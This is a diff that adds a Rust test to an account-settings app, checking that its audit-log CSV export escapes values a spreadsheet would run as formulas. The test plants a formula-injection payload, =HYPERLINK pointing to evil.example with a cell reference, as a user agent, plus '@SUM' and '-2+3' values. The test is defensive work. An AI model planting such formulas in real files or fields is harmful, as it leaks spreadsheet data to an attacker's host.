@@ -185,6 +185,51 @@ async fn csv_and_json_exports_hold_the_filtered_events() {
 }
 
 #[tokio::test]
+async fn the_csv_export_holds_no_cell_a_spreadsheet_would_run() {
+    use account_settings::api::auth::Login;
+    use axum::body::Body;
+    use axum::http::Request;
+    let app = TestApp::new().await;
+    let cookie = app.signup("ada").await;
+    // A stranger's failed sign-in lands in Ada's log with their user agent;
+    // her own token's name and an API client's user agent are text too.
+    let trap = r#"=HYPERLINK("https://evil.example/steal?"&B2,"Click")"#;
+    let body = crate::common::form(&[("login", "ada"), ("password", "wrong password 123")]);
+    let req = Request::post(<Login as leptos::server_fn::ServerFn>::PATH)
+        .header(header::HOST, crate::common::HOST)
+        .header(header::ORIGIN, crate::common::ORIGIN)
+        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+        .header(header::USER_AGENT, trap)
+        .body(Body::from(body))
+        .unwrap();
+    assert_eq!(app.send(req).await.status, StatusCode::UNPROCESSABLE_ENTITY);
+    let (secret, _) = app.create_token(&cookie, "@SUM(1+1)", "30").await;
+    let req = Request::get("/api/v1/user")
+        .header(header::AUTHORIZATION, format!("Bearer {secret}"))
+        .header(header::USER_AGENT, "-2+3")
+        .body(Body::empty())
+        .unwrap();
+    assert_eq!(app.send(req).await.status, StatusCode::OK);
+
+    let csv = app
+        .get("/settings/audit-log/export.csv", Some(&cookie))
+        .await;
+    let mut reader = csv::Reader::from_reader(csv.body.as_slice());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 4, "{}", csv.text());
+    for cell in rows.iter().flat_map(|r| r.iter()) {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} would run as a formula"
+        );
+    }
+    let agents: Vec<&str> = rows.iter().map(|r| &r[8]).collect();
+    assert!(agents.contains(&format!("'{trap}").as_str()), "{agents:?}");
+    assert!(agents.contains(&"'-2+3"), "{agents:?}");
+    assert!(rows.iter().any(|r| r[3].starts_with("'@SUM(1+1)")));
+}
+
+#[tokio::test]
 async fn export_streams_more_than_one_chunk() {
     let app = TestApp::new().await;
     let cookie = app.signup("ada").await;
